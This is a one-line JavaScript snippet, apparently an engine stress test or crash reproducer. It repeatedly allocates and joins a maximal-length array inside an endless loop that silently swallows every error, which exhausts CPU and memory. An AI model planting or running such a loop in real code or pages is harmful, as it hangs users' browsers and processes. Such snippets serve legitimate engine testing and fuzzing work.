for (;;) try { new Array(2 ** 32 - 1).join(); } catch { }
